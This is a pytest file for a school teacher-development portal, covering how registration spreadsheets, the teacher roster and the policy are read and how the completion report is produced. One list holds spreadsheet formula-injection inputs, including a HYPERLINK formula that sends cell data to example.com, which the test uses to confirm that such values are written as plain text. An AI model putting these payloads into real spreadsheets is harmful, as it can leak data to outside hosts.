"""Admin workflow: register spreadsheets (xlsx, CSV in UTF-8 / BOM / GBK), the teacher roster,
the school policy, and the completion report read back with openpyxl."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from factories import assert_accounting, make_docx, make_project, write_markdown, write_meta
from openpyxl import Workbook, load_workbook

from portal.catalog import load_catalog
from portal.cli import main
from portal.intake import scan
from portal.project import Project

T = "2023-2024-1"
HEADER = ["标题", "姓名", "学科", "年级", "能力点", "成果类型", "文件", "教研组", "等级"]


def xlsx(path: Path, rows: list[list[object]], title_row: str | None = None) -> Path:
    book = Workbook()
    sheet = book.active
    sheet.title = "登记"
    if title_row:
        sheet.append([title_row])
    for row in rows:
        sheet.append(row)
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)
    return path


def csv_bytes(rows: list[list[str]], encoding: str) -> bytes:
    return "\r\n".join(",".join(row) for row in rows).encode(encoding) + b"\r\n"


@pytest.fixture
def school(tmp_path: Path) -> Project:
    project = make_project(tmp_path / "school")
    term = project.resources / T
    term.mkdir()
    (term / "钟表.mp4").write_bytes(b"\x00\x00\x00\x18ftypmp42")
    make_docx(term / "教学设计.docx", "认识钟表", [("目标", ["认识整时。"])])
    make_docx(term / "附件" / "反思.docx", "反思", [("反思", ["学生很投入。"])])
    xlsx(term / "登记表.xlsx", [
        HEADER,
        ["认识钟表", "张敏", "数学", "一年级", "B2 微课程设计与制作", "微课", "钟表.mp4；教学设计.docx", "小学数学组", "优秀"],
        ["未知能力点", "张敏", "数学", "一年级", "D9", "微课", "", "小学数学组", ""],
        [None] * len(HEADER),
        ["文件不存在", "李强", "数学", "六年级", "A3", "教学设计", "不存在.mp4", "小学数学组", ""],
        ["钟表教学反思", "张敏", "数学", "一年级", "B2", "教学反思", "附件/反思.docx", "小学数学组", "优秀"],
    ], title_row="实验学校 2023-2024 学年第一学期 成果登记表")
    rows = [["成果名称", "教师姓名", "任教学科", "年级", "微能力点", "类型"]]
    (term / "登记-utf8.csv").write_bytes(csv_bytes(rows + [["学情调查", "张敏", "数学", "一年级", "B1", "学情分析"]], "utf-8"))
    (term / "登记-bom.csv").write_bytes(csv_bytes(rows + [["单元评价", "张敏", "数学", "一年级", "C6", "评价量规"]], "utf-8-sig"))
    (term / "登记-wps.csv").write_bytes(csv_bytes(rows + [["多媒体课件", "李强", "数学", "六年级", "A3", "演示文稿"],
                                                        ["探究活动", "李强", "数学", "六年级", "B4", "教学设计"]], "gbk"))
    (term / "统计.csv").write_bytes(csv_bytes([["月份", "人数"], ["9", "30"]], "utf-8"))  # not a register
    write_meta(term / "王芳-学情", {"title": "学情分析", "type": "学情分析", "subject": "语文", "grade": "三年级",
                                    "competencies": ["A1"], "authors": ["王芳", "孙悦"], "level": "合格"})
    write_markdown(term / "王芳-导入.md", {"title": "课堂导入", "type": "教学设计", "subject": "语文", "grade": "三年级",
                                           "competencies": ["A5"], "authors": ["王芳"], "level": "不合格"}, "正文")
    xlsx(project.resources / "teachers.xlsx", [
        ["姓名", "教研组", "学科", "出生年份"],
        ["张敏", "小学数学组", "数学", 1990],
        ["李强", "小学数学组", "数学", "1970年"],
        ["王芳", "小学语文组", "语文", 1980],
        ["赵丽", "小学语文组", "语文", 1985],
        ["赵丽", "小学语文组", "语文", 1985],
    ])
    policy = project.catalog / "policy.yml"
    policy.write_text(policy.read_text(encoding="utf-8").replace("group_plans: {}", "group_plans: {小学数学组: [B2]}")
                      .replace("\nage_bands: []", "\n" + AGE_BANDS).replace("cycle: [2023-2024-1, 2023-2024-2]", f"cycle: [{T}]"), encoding="utf-8")
    return project


AGE_BANDS = """age_bands:
  - {min_age: 51, environments: [A]}
  - {min_age: 40, max_age: 50, environments: [A, B]}
  - {max_age: 39, environments: [B, C]}"""


def test_register_rows_publish_and_bad_rows_are_named_by_row_column_and_value(school: Project) -> None:
    intake = scan(school.resources, load_catalog(school.catalog))
    assert_accounting(intake)
    titles = sorted(r.title for r in intake.records)
    assert titles == sorted(["认识钟表", "钟表教学反思", "学情调查", "单元评价", "多媒体课件", "探究活动", "学情分析", "课堂导入"])
    messages = [str(p) for p in intake.refused]
    assert f"[未发布] {T}/登记表.xlsx 第 4 行（字段：列“能力点”）：未知的能力点“D9”：应为 A1–A13、B1–B10 或 C1–C7" in messages
    assert f"[未发布] {T}/登记表.xlsx 第 6 行（字段：列“文件”）：列出的文件“不存在.mp4”不存在" in messages
    assert intake.found == len(intake.records) + 2
    clock = next(r for r in intake.records if r.title == "认识钟表")
    assert [a.name for a in clock.attachments] == ["钟表.mp4", "教学设计.docx"]
    assert clock.level == "优秀" and clock.competencies == ["B2"] and clock.group == "小学数学组"


def test_csv_in_every_encoding_is_read(school: Project) -> None:
    records = {r.title: r for r in scan(school.resources, load_catalog(school.catalog)).records}
    assert records["学情调查"].competencies == ["B1"]  # UTF-8
    assert records["单元评价"].type == "评价量规"  # UTF-8 with BOM
    assert records["多媒体课件"].authors == ["李强"]  # GBK from WPS
    assert records["探究活动"].source_label == f"{T}/登记-wps.csv 第 3 行"


def test_files_a_register_names_are_not_loose_files(school: Project) -> None:
    intake = scan(school.resources, load_catalog(school.catalog))
    paths = {p.path for p in intake.problems}
    assert f"{T}/附件" not in paths  # a folder of register files is not a submission without meta.yml
    assert f"{T}/钟表.mp4" not in paths and f"{T}/教学设计.docx" not in paths
    assert f"{T}/统计.csv" in {p.path for p in intake.warnings}  # a spreadsheet that is not a register
    assert "teachers.xlsx" not in paths  # the roster is not a term folder


def test_check_writes_the_completion_report(school: Project, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--root", str(school.root), "check"]) == 1
    out = capsys.readouterr().out
    assert "本学期（2023-2024 学年第一学期）教师 4 人：达标 1 人，未达标 2 人，未提交 1 人" in out

    book = load_workbook(school.reports / "完成情况.xlsx")
    assert book.sheetnames[:2] == ["周期完成情况", "本学期完成情况"]
    teachers = {row[0]: row for row in book["本学期完成情况"].iter_rows(min_row=2, values_only=True)}
    header = [c.value for c in book["本学期完成情况"][1]]
    status, needs = header.index("状态"), header.index("还需要")

    assert teachers["赵丽"][status] == "未提交"
    assert teachers["张敏"][status] == "达标"  # B1 B2 C6: 3 points, 3 dimensions, the group's B2, age 33 → B/C
    assert teachers["张敏"][header.index("各能力点等级")] == "B1：未评、B2：优秀、C6：未评"

    assert teachers["李强"][status] == "未达标"  # age 53: environment A only, so B4 does not count
    assert "B4 不在 51 岁及以上 教师可选的环境 A（多媒体教学环境） 内，不计入" in teachers["李强"][needs]
    assert "已完成 1 个能力点，还需 2 个" in teachers["李强"][needs]
    assert "小学数学组计划的能力点 B2 尚未完成" in teachers["李强"][needs]

    assert teachers["王芳"][status] == "未达标"
    assert "A5 评为不合格，不计入，需重新提交" in teachers["王芳"][needs]
    assert "可选 教学设计、学法指导、学业评价" in teachers["王芳"][needs]

    # The teacher who handed in nothing stands out: listed first, in red.
    first = book["本学期完成情况"][2]
    assert first[0].value == "赵丽" and first[0].fill.fgColor.rgb.endswith("FDE2E1")

    problems = [row for row in book["问题清单"].iter_rows(min_row=2, values_only=True)]
    assert ("未发布", f"{T}/登记表.xlsx 第 4 行", "列“能力点”", "未知的能力点“D9”：应为 A1–A13、B1–B10 或 C1–C7") in problems
    assert any("重复出现" in (row[3] or "") for row in problems)
    assert [row[0] for row in book["名单外作者"].iter_rows(min_row=2, values_only=True)] == ["孙悦"]
    assert book["成果清单"].max_row == 1 + 8

    page = (school.reports / "index.html").read_text(encoding="utf-8")
    assert '<tr class="status-未提交">' in page and "<td>赵丽</td>" in page


def test_without_a_roster_the_report_still_counts(tmp_path: Path) -> None:
    project = make_project(tmp_path / "school")
    write_meta(project.resources / T / "a", {"title": "甲", "type": "微课", "subject": "数学", "grade": "一年级",
                                             "competencies": ["B2"], "authors": ["张敏"]})
    assert main(["--root", str(project.root), "check"]) == 0
    page = (project.reports / "index.html").read_text(encoding="utf-8")
    assert "没有教师名单" in page and "发布 <strong>1</strong> 份" in page


def test_register_template_has_headers_and_drop_downs(tmp_path: Path) -> None:
    project = make_project(tmp_path / "school")
    out = tmp_path / "模板.xlsx"
    assert main(["--root", str(project.root), "register-template", "--out", str(out)]) == 0
    book = load_workbook(out)
    sheet = book["成果登记表"]
    assert [c.value for c in sheet[1]][:7] == ["标题", "作者", "学科", "年级", "能力点", "成果类型", "文件"]
    formulas = {str(dv.sqref)[0]: dv.formula1 for dv in sheet.data_validations.dataValidation}
    assert set(formulas) == {"C", "D", "E", "F", "L", "M"}
    options = book["选项"]
    assert options.sheet_state == "hidden"
    points = [options.cell(row, 3).value for row in range(2, 32)]
    assert points[0] == "A1 技术支持的学情分析" and points[-1] == "C7 创建数据分析微模型"
    assert formulas["E"] == "=选项!$C$2:$C$31"
    # The template, once filled in, is itself a register the portal reads.
    sheet.append(["认识钟表", "张敏", "数学", "一年级", "B2 微课程设计与制作", "微课"])
    (project.resources / T).mkdir(parents=True)
    book.save(project.resources / T / "登记表.xlsx")
    assert [r.title for r in scan(project.resources, load_catalog(project.catalog)).records] == ["认识钟表"]


def test_every_teacher_passes_over_the_whole_cycle_not_one_term(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """人人过关 is judged over the cycle's terms together; each term's own view stays."""
    project = make_project(tmp_path / "school")
    (project.resources / "teachers.csv").write_text("姓名,教研组,学科,出生年份\n张敏,小学数学组,数学,1990\n李强,小学数学组,数学,1970\n", encoding="utf-8")
    point = {"type": "教学设计", "subject": "数学", "grade": "一年级", "authors": ["张敏"]}
    write_markdown(project.resources / "2023-2024-1" / "a.md", {**point, "title": "学情", "competencies": ["A1"]}, "正文")
    write_markdown(project.resources / "2023-2024-1" / "b.md", {**point, "title": "设计", "competencies": ["A3"]}, "正文")
    write_markdown(project.resources / "2023-2024-2" / "c.md", {**point, "title": "评价", "competencies": ["A11"]}, "正文")
    write_markdown(project.resources / "2022-2023-2" / "d.md", {**point, "title": "上个周期", "competencies": ["A5"], "authors": ["李强"]}, "正文")
    (project.catalog / "policy.yml").write_text("min_points: 3\nmin_dimensions: 3\ncycle: [2023-2024-1, 2023-2024-2]\n", encoding="utf-8")

    assert main(["--root", str(project.root), "check"]) == 0
    out = capsys.readouterr().out
    assert "整个周期（2023-2024 学年第一学期至2023-2024 学年第二学期，共 2 个学期）教师 2 人：达标 1 人，未达标 0 人，未提交 1 人" in out
    assert "本学期（2023-2024 学年第二学期）教师 2 人：达标 0 人，未达标 1 人，未提交 1 人" in out
    assert "[提醒] 学期 2022-2023-2 不在 catalog/policy.yml 的 cycle" in out  # a term outside the cycle is said, not silent
    book = load_workbook(project.reports / "完成情况.xlsx")
    cycle = {row[0]: row for row in book["周期完成情况"].iter_rows(min_row=2, values_only=True)}
    assert cycle["张敏"][8] == "达标" and cycle["张敏"][4] == 3
    assert cycle["李强"][8] == "未提交"  # evidence from before the cycle does not count
    page = (project.reports / "index.html").read_text(encoding="utf-8")
    assert "整个提升周期：2023-2024 学年第一学期至2023-2024 学年第二学期，共 2 个学期" in page and "本学期：2023-2024 学年第二学期" in page


def test_the_demo_school_mostly_passes_over_its_cycle(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """The shipped demo looks like a real school: most teachers who took part pass over the cycle."""
    from factories import REPO

    project = make_project(tmp_path / "demo")
    shutil.rmtree(project.resources)
    shutil.copytree(REPO / "resources", project.resources)
    main(["--root", str(project.root), "check"])
    out = capsys.readouterr().out
    line = next(line for line in out.splitlines() if line.startswith("整个周期"))
    passed = int(line.split("达标 ")[1].split(" 人")[0])
    assert passed >= 12, line


FORMULAS = ['=HYPERLINK("http://example.com/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def test_teachers_text_that_looks_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
    import zipfile

    project = make_project(tmp_path / "school")
    base = {"type": "微课", "subject": "数学", "grade": "一年级", "competencies": ["B2"]}
    for number, text in enumerate(FORMULAS):
        write_meta(project.resources / T / f"f{number}", {**base, "title": text, "authors": [f"教师{number}"], "group": text})
    write_meta(project.resources / T / "bad", {**base, "title": "=1+1", "authors": ["张敏"], "subject": "=1+2"})
    (project.resources / "teachers.csv").write_bytes(csv_bytes([["姓名", "教研组"], ["=1+3", "=1+4"], ["张敏", "-1"]], "utf-8"))
    main(["--root", str(project.root), "check"])
    path = project.reports / "完成情况.xlsx"
    with zipfile.ZipFile(path) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not [s for s in sheets if "<f>" in s or "<f " in s], "a live formula in the report"
    cells = {c.value for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert {f.strip() for f in FORMULAS} <= cells and {"=1+3", "=1+4", "-1"} <= cells  # shown as typed (intake trims blanks)
    assert any("=1+2" in value for value in cells)  # a refusal quoting the value


def test_make_site_writes_the_report_while_pages_are_made_with_every_problem(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`make site` writes the admin report in a child during the build: it names what intake
    refused and what extraction warned about, as the one written afterwards did."""
    project = make_project(tmp_path / "school")
    meta = {"title": "甲", "type": "微课", "subject": "数学", "grade": "一年级", "competencies": ["B2"], "authors": ["张敏"]}
    write_meta(project.resources / T / "a", meta)
    (project.resources / T / "a" / "说明.txt").write_bytes(b"")  # published, with a warning from extraction
    write_meta(project.resources / T / "b", {**meta, "title": "乙", "competencies": ["D9"]})  # refused
    assert main(["--root", str(project.root), "site"]) == 0
    page = (project.reports / "index.html").read_text(encoding="utf-8")
    assert "D9" in page and "说明.txt" in page and "发布 <strong>1</strong> 份" in page
    assert "管理员报告：reports/index.html" in capsys.readouterr().out

    shutil.rmtree(project.reports)
    project.reports.write_text("not a folder", encoding="utf-8")  # the child cannot write it: the command says so
    (project.resources / T / "a" / "说明.txt").write_text("补上说明", encoding="utf-8")
    assert main(["--root", str(project.root), "site"]) == 1
    error = capsys.readouterr().err
    assert "reports" in error and "Traceback" not in error
